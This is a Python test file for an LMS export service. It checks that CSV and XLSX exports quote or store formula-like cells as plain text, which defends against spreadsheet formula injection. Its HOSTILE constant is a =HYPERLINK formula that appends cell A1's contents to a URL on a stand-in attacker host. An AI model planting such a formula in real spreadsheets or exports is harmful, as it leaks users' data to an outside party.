"""Exports: text never becomes a formula, numbers stay numbers."""

import io
import zipfile

import openpyxl

from lms.reporting.dashboard import Cell, Table
from lms.services import exports

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点这里")'


def table() -> Table:
    return Table(
        "mentors",
        "导师",
        "说明",
        ["导师", "学员数", "比例"],
        [
            [Cell(HOSTILE), Cell(12), Cell(0.45, "45% (9/20)")],
            [Cell("+86 139"), Cell(3), Cell(None)],
            [Cell("@SUM(1)"), Cell(0), Cell(1.0, "100%")],
        ],
    )


def test_csv_cells_that_look_like_formulas_are_quoted_and_numbers_are_plain():
    lines = exports.to_csv(table()).decode("utf-8-sig").splitlines()
    assert lines[1].startswith("\"'=HYPERLINK(")
    assert lines[1].endswith(",12,0.45")
    assert lines[2] == "'+86 139,3,—"
    assert lines[3] == "'@SUM(1),0,1.0"


def test_xlsx_stores_them_as_text_never_as_a_formula():
    data = exports.to_xlsx(table())
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula anywhere in the sheet
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet["A5"].value == HOSTILE and sheet["A5"].data_type == "s"
    assert sheet["B5"].value == 12 and sheet["C5"].value == 0.45
